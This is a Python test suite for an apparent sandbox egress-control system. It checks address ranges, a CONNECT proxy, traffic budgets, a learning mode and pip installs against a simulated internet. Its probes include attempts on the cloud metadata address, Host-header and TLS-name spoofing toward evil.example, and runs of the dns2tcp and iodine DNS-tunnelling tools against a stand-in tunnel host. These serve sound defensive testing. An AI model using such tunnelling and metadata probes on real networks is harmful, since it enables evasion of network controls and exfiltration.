"""Rules beyond names, against a fake internet: ranges of addresses, the explicit proxy, budgets,
learning, a package from a mirror, and tunnels that find nothing."""
import json
import os
import signal
import socket
import subprocess
import threading
import zipfile

import atoll
import egress_case
import fake_internet
from fake_internet import INTERNAL, OTHER, WEB

INTERNET = fake_internet.FakeInternet()
TUNNELS = os.environ.get("ATOLL_TUNNELS", os.path.join(atoll.ROOT, "build", "tunnels"))

DIAL = r"""
import socket, ssl
def tcp(to, port, data=b"GET / HTTP/1.1\r\nHost: HOST\r\n\r\n", more=b""):
    try:
        s = socket.create_connection((to, port), timeout=5)
        s.sendall(data.replace(b"HOST", to.encode()) + more)
        return s.recv(1000).decode("latin-1").splitlines()[-1]
    except OSError as error: return type(error).__name__
    except IndexError: return "closed"
EVIL = b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n"
def connect(to, proxy="198.18.0.1"):
    s = socket.create_connection((proxy, 3128), timeout=5)
    s.sendall(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (to.encode(), to.encode()))
    return s, s.recv(1000).decode("latin-1").split("\r\n")[0]
"""


class RulesCase(egress_case.EgressCase):
    shared = True


class Ranges(RulesCase):
    def dial(self, sandbox, *calls):
        return self.run_inside(sandbox, DIAL + "".join(f"print({call})\n" for call in calls))

    def test_a_range_is_reached_and_nothing_beside_it(self):
        network = {"allow": [f"{INTERNAL}/32:80", "20.0.0.80:9000"]}
        created = self.atoll.create(network=network)
        sandbox = created["id"]
        self.assertEqual(created["network"]["allow"], ["10.9.9.9/32:80", "20.0.0.80/32:9000"])
        lines = self.dial(sandbox, "tcp('10.9.9.9', 80)", "tcp('10.9.9.9', 443)",
                          "tcp('10.9.9.8', 80)", "tcp('20.0.0.80', 80)", "tcp('20.0.0.81', 80)",
                          "tcp('169.254.169.254', 80)",
                          "tcp('10.9.9.9', 80, EVIL)")
        self.assertEqual(lines[0], "10.9.9.9 10.9.9.9 /")
        self.assertEqual(lines[1], "ConnectionResetError")  # its port is not in the rule
        self.assertEqual(lines[2:6], ["ConnectionRefusedError", "ConnectionResetError",
                                      "ConnectionRefusedError", "ConnectionRefusedError"])
        self.assertIn("host_mismatch", lines[6])
        rows = self.rows(sandbox)
        allowed = [(row["address"], row["port"], row["rule"]) for row in rows
                   if row["event"] == "connect" and row["decision"] == "allow"]
        self.assertEqual(allowed, [("10.9.9.9", 80, "allow[0]")])
        self.assertLessEqual({"port_not_allowed", "not_a_name", "host_mismatch"},
                             self.reasons(sandbox))

    def test_a_change_opens_and_closes_ranges_at_once(self):
        sandbox = self.atoll.create()["id"]
        self.assertEqual(self.dial(sandbox, "tcp('10.9.9.9', 80)"), ["ConnectionRefusedError"])
        self.change_network(sandbox, {"rules": [{"allow": "10.9.0.0/16", "ports": [80, 9000],
                                                 "protocol": "tcp"}]})
        self.assertEqual(self.dial(sandbox, "tcp('10.9.9.9', 80)"), ["10.9.9.9 10.9.9.9 /"])
        code = ("import socket\ns = socket.create_connection(('10.9.9.9', 80))\n"
                "s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); s.recv(1000)\n"
                "print('open', flush=True)\ntry: print('got', s.recv(100))\n"
                "except OSError as e: print(type(e).__name__)\n")
        started = self.atoll.start(sandbox, ["python3", "-c", code])
        atoll.wait_for("it", lambda: b"open" in self.atoll.output(sandbox, started["id"]))
        self.change_network(sandbox, {"allow": ["10.9.9.8"]})
        self.atoll.wait_ended(sandbox, started["id"])
        self.assertIn(b"ConnectionResetError", self.atoll.output(sandbox, started["id"]))
        self.assertEqual(self.dial(sandbox, "tcp('10.9.9.9', 80)"), ["ConnectionRefusedError"])
        self.assertIn("policy_changed", self.reasons(sandbox))

    def test_a_range_lifts_the_check_of_a_names_address(self):
        sandbox = self.atoll.create(network={"allow": ["internal.example"]})["id"]
        self.assertIn("FAILED", self.fetch(sandbox, "http://internal.example/"))
        for wide in ("0.0.0.0/0", "20.0.0.0/8"):
            self.change_network(sandbox, {"allow": ["internal.example", wide]})
            self.assertIn("FAILED", self.fetch(sandbox, "http://internal.example/"), wide)
        self.change_network(sandbox, {"allow": ["internal.example", "10.9.0.0/16"]})
        self.assertEqual(self.fetch(sandbox, "http://internal.example/"),
                         "10.9.9.9 internal.example /")
        # What listens on this host for itself is not for a sandbox's policy to give.
        self.change_network(sandbox, {"allow": ["loop.example", "127.0.0.0/8"]})
        self.assertIn("FAILED", self.fetch(sandbox, "http://loop.example/"))
        # A name that has lost the range is cut and refused.
        self.change_network(sandbox, {"allow": ["internal.example", "metadata.example",
                                                "169.254.0.0/16"]})
        for name in ("internal", "metadata"):
            self.assertIn("FAILED", self.fetch(sandbox, f"http://{name}.example/"), name)

    def test_ranges_outlive_every_process(self):
        sandbox = self.atoll.create(network={"allow": ["10.9.9.9"]})["id"]
        lock = os.path.join(self.atoll.run_directory, "egress", "egress.lock")
        for kill in (lambda: atoll.lock_holder(lock), lambda: self.atoll.warden_pid,
                     lambda: self.atoll.daemon_pid):
            os.kill(atoll.wait_for("a process", kill), signal.SIGKILL)
            self.atoll.close()
            self.atoll.wait_ready()
            atoll.wait_for("the range", lambda: self.dial(sandbox, "tcp('10.9.9.9', 80)") == [
                "10.9.9.9 10.9.9.9 /"], 10)
        self.change_network(sandbox, {"allow": []})
        self.assertEqual(self.dial(sandbox, "tcp('10.9.9.9', 80)"), ["ConnectionRefusedError"])


class Proxy(RulesCase):
    def test_connect_is_decided_as_any_connection(self):
        rules = [{"allow": "allowed.example", "ports": [80, 443, 2222], "protocol": "auto"},
                 {"allow": "10.9.9.9", "ports": [80], "protocol": "tcp"}]
        sandbox = self.atoll.create(network={"rules": rules})["id"]
        connections = len(INTERNET.connections)
        lines = self.run_inside(sandbox, DIAL + r"""
c = ssl._create_unverified_context(); c.check_hostname = False
def tls(to, name):
    s, status = connect(to)
    try: s = c.wrap_socket(s, server_hostname=name)
    except OSError as error: return status, type(error).__name__
    s.sendall(b"GET /t HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
    return status, s.recv(1000).decode().splitlines()[-1]
def plain(to, host, proxy="198.18.0.1"):
    s, status = connect(to, proxy)
    try:
        s.sendall(b"GET /p HTTP/1.1\r\nHost: " + host + b"\r\n\r\n")
        return status, s.recv(1000).decode().splitlines()[-1]
    except OSError as error: return status, type(error).__name__
    except IndexError: return status, "closed"
print(*tls("Allowed.Example:443", "allowed.example"))
print(*plain("allowed.example:80", b"allowed.example"))
print(*plain("10.9.9.9:80", b"anything", "fd00:a701::1"))
print(*plain(socket.gethostbyname("allowed.example") + ":80", b"allowed.example"))
print(*tls("allowed.example:443", "evil.example"))
print(*plain("allowed.example:80", b"evil.example"))
for to in ("evil.example:443", "20.0.0.80:80", "127.0.0.1:80", "169.254.169.254:80",
           "allowed.example:22", "198.18.9.9:80", "a b"):
    print(connect(to)[1])
s = socket.create_connection(("198.18.0.1", 3128))
s.sendall(b"GET http://allowed.example/ HTTP/1.1\r\n\r\n")
print(s.recv(100).decode().split("\r\n")[0])
""")
        ok = "HTTP/1.1 200 Connection established"
        self.assertEqual(lines[:4], [f"{ok} 20.0.0.80 allowed.example /t",
                                     f"{ok} 20.0.0.80 allowed.example /p",
                                     f"{ok} 10.9.9.9 anything /p",
                                     f"{ok} 20.0.0.80 allowed.example /p"])
        self.assertRegex(lines[4], ok + " (ConnectionResetError|SSL.*)")
        self.assertIn("host_mismatch", lines[5])
        self.assertEqual(lines[6:], ["HTTP/1.1 403 Forbidden"] * 8)
        self.assertEqual(len(INTERNET.connections) - connections, 4)
        reasons = self.reasons(sandbox)
        self.assertTrue({"no_rule", "port_not_allowed", "unknown_address", "bad_proxy_request",
                         "server_name_mismatch", "host_mismatch",
                         "address_refused"} <= reasons, reasons)

    def test_tools_use_it_by_the_usual_variable(self):
        sandbox = self.atoll.create(network={"allow": ["allowed.example:443"]})["id"]
        code = ("import ssl, urllib.request; c = ssl._create_unverified_context()\n"
                "print(urllib.request.urlopen('https://allowed.example/v', context=c).read())")
        lines = self.run_inside(sandbox, code, env={"HTTPS_PROXY": "http://198.18.0.1:3128"})
        self.assertEqual(lines, ["b'20.0.0.80 allowed.example /v'"])

    def test_requests_for_urls_are_decided_as_any_other(self):
        sandbox = self.atoll.create(network={"rules": [
            {"allow": "other.example", "inspect": True, "methods": ["GET"], "paths": ["/a"]},
            {"allow": "a.wild.example", "ports": [443]}], "allow": ["allowed.example"]})["id"]
        requests, connections = len(INTERNET.requests), len(INTERNET.connections)
        lines = self.run_inside(sandbox, r"""
import http.client
def ask(url, host, method="GET", body=None, more={}):
    c = http.client.HTTPConnection("198.18.0.1", 3128, timeout=10)
    c.putrequest(method, url, skip_host=True, skip_accept_encoding=True)
    for name, value in {"Host": host, **more}.items(): c.putheader(name, value)
    if body: c.putheader("Content-Length", str(len(body)))
    c.endheaders(body)
    r = c.getresponse()
    return f"{r.status} {r.read(300).decode().strip()}"
print(ask("http://allowed.example/p?q", "allowed.example", "POST", b"x" * 70000,
          {"Proxy-Authorization": "Basic c2VjcmV0", "Proxy-Connection": "keep-alive"}))
print(ask("http://other.example/a", "other.example"))
print(ask("http://other.example/b", "other.example"))
print(ask("http://evil.example/", "evil.example"))
print(ask("http://allowed.example/", "evil.example"))
print(ask("http://allowed.example:8080/", "allowed.example:8080"))
print(ask("http://a.wild.example:443/", "a.wild.example:443"))
print(ask("http://169.254.169.254/", "169.254.169.254"))
print(ask("https://allowed.example/", "allowed.example"))
print(ask("/p", "allowed.example"))
""")
        self.assertEqual(lines[:2], [f"200 {WEB} allowed.example /p?q",
                                     f"200 {OTHER} other.example /a"])
        reasons = ["request_not_allowed", "no_rule", "host_mismatch", "port_not_allowed",
                   "protocol_refused", "address_refused", "bad_proxy_request",
                   "bad_proxy_request"]
        for line, reason in zip(lines[2:], reasons):
            self.assertTrue(line.startswith("403") and reason in line, (line, reason))
        self.assertEqual(len(lines), 2 + len(reasons))
        self.assertEqual([request[2] for request in INTERNET.requests[requests:]],
                         ["POST /p?q HTTP/1.1", "GET /a HTTP/1.1"])
        self.assertEqual(len(INTERNET.connections) - connections, 2)
        sent = INTERNET.fields[-2]
        self.assertEqual((sent["connection"], [name for name in sent if "proxy" in name]),
                         ("close", []))

    def test_tools_use_it_for_urls_by_the_usual_variable(self):
        sandbox = self.atoll.create(network={"allow": ["allowed.example"]})["id"]
        code = ("import urllib.request as u\n"
                "for p in 'ab': print(u.urlopen('http://allowed.example/' + p).read())")
        lines = self.run_inside(sandbox, code, env={"http_proxy": "http://198.18.0.1:3128"})
        self.assertEqual(lines, [f"b'{WEB} allowed.example /{p}'" for p in "ab"])

    def test_proxied_connections_are_cut_by_a_change(self):
        sandbox = self.atoll.create(network={"rules": [
            {"allow": "allowed.example", "ports": [2222], "protocol": "tcp"}]})["id"]
        started = self.atoll.start(sandbox, ["python3", "-c", DIAL + (
            "s, status = connect('allowed.example:2222')\nprint(status, s.recv(99), flush=True)\n"
            "try: print('got', s.recv(100))\nexcept OSError as e: print(type(e).__name__)\n")])
        atoll.wait_for("it", lambda: b"SSH" in self.atoll.output(sandbox, started["id"]))
        self.change_network(sandbox, {"allow": []})
        self.atoll.wait_ended(sandbox, started["id"])
        self.assertIn(b"ConnectionResetError", self.atoll.output(sandbox, started["id"]))


class Budgets(RulesCase):
    SEND = DIAL + r"""
def push(port, count):
    sent = 0
    try:
        s = socket.create_connection(("allowed.example", port), timeout=10)
        while sent < count: sent += s.send(b"x" * 1000)
        s.shutdown(socket.SHUT_WR)
        while s.recv(100): pass
        return "sent"
    except OSError as error:
        import errno  # a reset may have come before the shutdown
        return "Connection lost" if error.errno == errno.ENOTCONN else type(error).__name__
"""

    def create(self, budget, rule=True):
        rules = [{"allow": "allowed.example", "ports": [80, 9000], "protocol": "auto"},
                 {"allow": "allowed.example", "ports": [9000], "protocol": "tcp"}]
        rules[0]["ports"] = [80]
        network = {"rules": rules}
        (rules[1] if rule else network)["budget"] = budget
        created = self.atoll.create(network=network)
        self.assertEqual((created["network"]["rules"][1] if rule else created["network"])["budget"],
                         budget)
        return created["id"]

    def arrived(self, since, least):
        """How many bytes came; counted when every connection has come to its end."""
        def count():
            return sum(size for _, kind, size in INTERNET.requests[since:] if kind == "sink")
        atoll.wait_for(f"{least} bytes", lambda: count() >= least)
        INTERNET.wait_quiet(WEB, 9000)
        return count()

    def test_bytes_out_end_the_connection(self):
        sandbox = self.create({"bytes_out": 100_000})
        since = len(INTERNET.requests)
        lines = self.run_inside(sandbox, self.SEND + "print(push(9000, 60000))\n"
                                "print(push(9000, 60000))\nprint(push(9000, 1))\n")
        self.assertEqual(lines[0], "sent")
        self.assertRegex(lines[1], "Connection|BrokenPipe")
        self.assertRegex(lines[2], "Connection|BrokenPipe|sent")
        self.assertEqual(self.arrived(since, 100_000), 100_000)
        cut = [row for row in self.rows(sandbox) if row.get("reason") == "budget_bytes_out"]
        self.assertTrue(cut and all(row["rule"] == "rules[1].budget" for row in cut), cut)
        # A kill gives nothing back; a change that raises it does.
        os.kill(atoll.lock_holder(os.path.join(self.atoll.run_directory, "egress", "egress.lock")),
                signal.SIGKILL)
        atoll.wait_for("egress", lambda: "20.0.0.80" in self.fetch(sandbox,
                                                                   "http://allowed.example/"))
        self.run_inside(sandbox, self.SEND + "print(push(9000, 1000))")
        self.assertEqual(self.arrived(since, 100_000), 100_000)
        self.change_network(sandbox, {"rules": [
            {"allow": "allowed.example", "ports": [9000], "protocol": "tcp",
             "budget": {"bytes_out": 150_000}}]})
        self.assertEqual(self.run_inside(sandbox, self.SEND + "print(push(9000, 50000))"), ["sent"])
        self.assertEqual(self.arrived(since, 150_000), 150_000)

    def test_a_sandbox_that_comes_back_goes_on_with_what_it_has_spent(self):
        sandbox = self.create({"bytes_out": 100_000})
        path, since = f"/v1/sandboxes/{sandbox}", len(INTERNET.requests)

        def ask(method, path, body=None):
            answer = self.atoll.request(method, path, body)
            self.assertLess(answer.status, 300, answer.body)
            return answer.json
        ask("PATCH", path, {"files_only_after_ms": 100})
        snapshot = ask("POST", f"{path}/snapshots", {})["id"]
        self.assertEqual(self.run_inside(sandbox, self.SEND + "print(push(9000, 60000))"), ["sent"])
        ask("POST", f"{path}/rollback", {"snapshot": snapshot})
        self.run_inside(sandbox, self.SEND + "print(push(9000, 60000))")
        self.assertEqual(self.arrived(since, 100_000), 100_000)
        ask("POST", f"{path}/pause")
        atoll.wait_for("its memory to be given back",
                       lambda: not ask("GET", path)["pause"]["memory"])
        ask("POST", f"{path}/resume")
        self.run_inside(sandbox, self.SEND + "print(push(9000, 1000))")
        self.assertEqual(self.arrived(since, 100_000), 100_000)

    def test_bytes_in_are_the_sandboxs_in_all(self):
        sandbox = self.create({"bytes_in": 1_000_000}, rule=False)
        lines = self.run_inside(sandbox, DIAL + r"""
s = socket.create_connection(("allowed.example", 80), timeout=5)
s.sendall(b"GET /large HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
got = 0
try:
    while data := s.recv(65536): got += len(data)
except OSError as error: print(type(error).__name__)
print(got)
""")
        self.assertEqual(lines[0], "ConnectionResetError")
        self.assertLessEqual(int(lines[1]), 1_000_000)
        self.assertIn("budget_bytes_in", self.reasons(sandbox))
        rules = {row["rule"] for row in self.rows(sandbox)
                 if row.get("reason") == "budget_bytes_in"}
        self.assertEqual(rules, {"budget"})

    def test_connections_are_counted_in_all(self):
        sandbox = self.create({"connections": 2})
        lines = self.run_inside(sandbox, self.SEND + "for i in range(4): print(push(9000, 1000))")
        self.assertEqual(lines[:2], ["sent", "sent"])
        self.assertNotIn("sent", lines[2:])
        self.assertIn("20.0.0.80", self.fetch(sandbox, "http://allowed.example/"))
        self.assertIn("budget_connections", self.reasons(sandbox))

    def test_requests_a_second(self):
        sandbox = self.create({"requests_per_second": 1}, rule=False)
        since = len(INTERNET.requests)
        lines = self.run_inside(sandbox, DIAL + r"""
import time; begin = time.monotonic()
s = socket.create_connection(("allowed.example", 80), timeout=5); n = 0
try:
    for i in range(20):
        s.sendall(b"GET /%d HTTP/1.1\r\nHost: allowed.example\r\n\r\n" % i)
        n += len(s.recv(1000)) > 0
except OSError as error: print(n, type(error).__name__)
# What one may do a second comes back by and by, so a new connection may find some.
answers = [tcp("allowed.example", 80) for i in range(20)]
print("ConnectionResetError" in answers); time.sleep(1.5); print(tcp("allowed.example", 80))
print(time.monotonic() - begin)
""")
        self.assertRegex(lines[0], r"^\d+ ConnectionResetError")
        self.assertEqual(lines[1], "True")
        self.assertIn("budget_requests", self.reasons(sandbox))
        self.assertEqual(lines[2], "20.0.0.80 allowed.example /")
        at_most = 1 + float(lines[3])  # what there is at first, and one a second
        self.assertLessEqual(len(INTERNET.requests) - since, at_most)

    def test_refuses_budgets_that_mean_nothing(self):
        for network, code in (({"budget": {}}, "invalid_network_rule"),
                              ({"budget": {"bytes": 1}}, "unknown_field"),
                              ({"rules": [{"deny": "a.b", "budget": {"bytes_in": 1}}]},
                               "invalid_network_rule"), ({"mode": "off"}, "invalid_network_rule")):
            answer = self.atoll.request("POST", "/v1/sandboxes",
                                        {"template": "python", "network": network})
            self.assertEqual((answer.status, answer.json["error"]["code"]), (400, code), network)


class Learning(RulesCase):
    def test_allows_nothing_and_prints_what_would(self):
        sandbox = self.atoll.create(network={"mode": "learn"})["id"]
        connections, questions = len(INTERNET.connections), len(INTERNET.questions)
        lines = self.run_inside(sandbox, DIAL + r"""
c = ssl._create_unverified_context()
print(tcp("allowed.example", 80))
s = socket.create_connection(("other.example", 443))
try: c.wrap_socket(s, server_hostname="other.example")
except OSError as error: print("refused")
try: print(socket.create_connection(("allowed.example", 2222), timeout=5).recv(10))
except OSError as error: print(type(error).__name__)
print(tcp("10.9.9.9", 5432))
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("20.0.0.80", 9))
except OSError as error: print("udp")
s, status = connect("a.wild.example:8443"); s.sendall(b"\x16\x03\x01"); print(status)
""")
        self.assertIn("learning", lines[0])
        self.assertEqual(lines[1:], ["refused", "ConnectionResetError", "ConnectionRefusedError",
                                     "udp", "HTTP/1.1 200 Connection established"])
        # What had left before the marker would have come before it.
        marker = self.atoll.create(network={"allow": ["allowed.example"]})["id"]
        self.assertIn("20.0.0.80", self.fetch(marker, "http://allowed.example/marker"))
        self.assertEqual(INTERNET.connections[connections:], [(fake_internet.WEB, 80)])
        self.assertLessEqual(set(INTERNET.questions[questions:]), {"allowed.example"})
        self.assertNotIn("allow", {row["decision"] for row in self.rows(sandbox)})
        learned = json.loads(self.atoll.cli("egress", "learn", sandbox, "--json").stdout)
        self.assertEqual(learned, {
            "allow": ["a.wild.example:8443", "allowed.example:80", "other.example:443"],
            "rules": [{"allow": "10.9.9.9/32", "ports": [5432], "protocol": "tcp"},
                      {"allow": "allowed.example", "ports": [2222], "protocol": "tcp"}]})
        text = self.atoll.cli("egress", "learn", sandbox).stdout.decode()
        self.assertIn("# no rule can allow: udp 20.0.0.80:9", text)
        path = os.path.join(self.atoll.directory, "learned.toml")
        with open(path, "w") as file:
            file.write(text)
        for url, code in (("https://other.example/", 0), ("https://evil.example/", 1)):
            done = self.atoll.cli("egress", "test", path, url, check=False)
            self.assertEqual(done.returncode, code, done)
        # With it, the same works.
        self.change_network(sandbox, learned)
        self.assertIn("20.0.0.80", self.fetch(sandbox, "http://allowed.example/"))
        self.assertIn(OTHER, self.fetch(sandbox, "https://other.example/"))

    def test_rules_go_on_deciding(self):
        sandbox = self.atoll.create(network={"mode": "learn", "allow": ["allowed.example"],
                                             "rules": [{"deny": "evil.example"}]})["id"]
        self.assertIn("20.0.0.80", self.fetch(sandbox, "http://allowed.example/"))
        self.assertIn("FAILED", self.fetch(sandbox, "http://evil.example/"))
        self.assertIn("denied_by_rule", self.reasons(sandbox))
        learned = json.loads(self.atoll.cli("egress", "learn", sandbox, "--json").stdout)
        self.assertEqual(learned, {"allow": []})


class Packages(RulesCase):
    """pip, against an index of this test: what a policy for a mirror is for."""

    @staticmethod
    def wheel(directory):
        path = os.path.join(directory, "lagoon-1.0-py3-none-any.whl")
        info = "lagoon-1.0.dist-info/"
        with zipfile.ZipFile(path, "w") as file:
            file.writestr("lagoon.py", "DEPTH = 42\n")
            file.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: lagoon\nVersion: 1.0\n")
            file.writestr(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\n"
                                          "Root-Is-Purelib: true\nTag: py3-none-any\n")
            file.writestr(info + "RECORD", "lagoon.py,,\n" + "".join(
                f"{info}{name},,\n" for name in ("METADATA", "WHEEL", "RECORD")))
        return path

    def serve_index(self, address, port, content):
        listener = socket.create_server((address, port))

        def answer(connection):
            with connection:
                path = connection.recv(65536).split(b" ")[1].decode()
                body = content.get(path)
                status = b"200 OK" if body else b"404 Not Found"
                kind = b"text/html" if path.endswith("/") else b"application/octet-stream"
                connection.sendall(b"HTTP/1.1 %s\r\nConnection: close\r\nContent-Type: %s\r\n"
                                   b"Content-Length: %d\r\n\r\n" % (status, kind, len(body or b""))
                                   + (body or b""))

        def loop():
            while True:
                connection, _ = listener.accept()
                threading.Thread(target=answer, args=(connection,), daemon=True).start()
        threading.Thread(target=loop, daemon=True).start()

    def test_pip_installs_from_a_mirror_that_a_policy_allows(self):
        pip = subprocess.run(["python3", "-c", "import pip; print(pip.__path__[0])"],
                             capture_output=True, check=False).stdout.decode().strip()
        if not pip:
            self.skipTest("there is no pip on this host to put into the sandbox")
        with open(self.wheel(INTERNET.directory), "rb") as file:
            wheel = file.read()
        name = "lagoon-1.0-py3-none-any.whl"
        index = f'<a href="http://files.mirror.example:8081/{name}">{name}</a>'.encode()
        fake_internet.NAMES.update({"mirror.example": [WEB], "files.mirror.example": [OTHER]})
        self.serve_index(WEB, 8080, {"/simple/lagoon/": index})
        self.serve_index(OTHER, 8081, {f"/{name}": wheel})
        sandbox = self.atoll.create(network={"allow": ["mirror.example:8080"]})["id"]
        archive = subprocess.run(["tar", "-C", os.path.dirname(pip), "--exclude=__pycache__", "-c",
                                  "pip"], capture_output=True, check=True).stdout
        answer = self.atoll.request("PUT", f"/v1/sandboxes/{sandbox}/archive?path=/tmp", archive,
                                    headers={"Content-Type": "application/x-tar"})
        self.assertIn(answer.status, (200, 201, 204), answer.body)
        install = ["python3", "/tmp/pip", "install", "--no-cache-dir",
                   "--disable-pip-version-check", "--retries", "0", "--target",
                   "/tmp/packages", "--index-url", "http://mirror.example:8080/simple/",
                   "--trusted-host", "mirror.example", "--trusted-host",
                   "files.mirror.example", "lagoon"]
        self.assertNotEqual(self.atoll.execute(sandbox, install)["exit_code"], 0)
        learned = json.loads(self.atoll.cli("egress", "learn", sandbox, "--json").stdout)
        self.assertEqual(learned["allow"], ["files.mirror.example"])
        self.change_network(sandbox, {"allow": ["mirror.example:8080",
                                                "files.mirror.example:8081"]})
        done = self.atoll.execute(sandbox, install)
        self.assertEqual(done["exit_code"], 0, done)
        lines = self.run_inside(sandbox, "import sys; sys.path.insert(0, '/tmp/packages')\n"
                                         "import lagoon; print(lagoon.DEPTH)")
        self.assertEqual(lines, ["42"])


class Tunnels(RulesCase):
    """Tools that carry data in questions, from Debian."""

    def tool(self, sandbox, path):
        program = os.path.join(TUNNELS, path)
        if not os.path.exists(program):
            self.skipTest(f"{program} is missing: tools/setup test unpacks it")
        with open(program, "rb") as file:
            answer = self.atoll.request("PUT", f"/v1/sandboxes/{sandbox}/files/tmp/tool?mode=755",
                                        file.read())
        self.assertIn(answer.status, (200, 201, 204), answer.body)
        self.atoll.execute(sandbox, ["chmod", "755", "/tmp/tool"], user="root")

    def check(self, path, *command, labels, user="user"):
        # One name beside the tunnel's is allowed: the tool has a resolver that answers.
        sandbox = self.atoll.create(network={"allow": ["allowed.example"]})["id"]
        self.tool(sandbox, path)
        questions, connections = len(INTERNET.questions), len(INTERNET.connections)
        done = self.atoll.execute(sandbox, ["timeout", "8", "/tmp/tool", *command], user=user)
        self.assertNotEqual(done["exit_code"], 0, done)
        self.assertEqual(INTERNET.questions[questions:], [])
        self.assertEqual(INTERNET.connections[connections:], [])
        rows = [row for row in self.rows(sandbox) if row["event"] == "dns"]
        self.assertGreaterEqual(sum(row["count"] for row in rows), labels, done)
        self.assertEqual({row["decision"] for row in rows}, {"deny"} if rows else set())

    def test_dns2tcp_finds_nothing(self):
        for server in ("198.18.0.1", "20.0.0.53"):
            with self.subTest(server):
                self.check("usr/bin/dns2tcpc", "-z", "tunnel.evil.example", "-k", "key", server,
                           labels=1)

    def test_iodine_finds_nothing(self):
        # It wants a network device first, and there is none to have.
        self.check("usr/sbin/iodine", "-f", "-P", "password", "198.18.0.1", "tunnel.evil.example",
                   labels=0, user="root")


if __name__ == "__main__":
    if os.geteuid() == 0:
        INTERNET.enter()
    atoll.main()
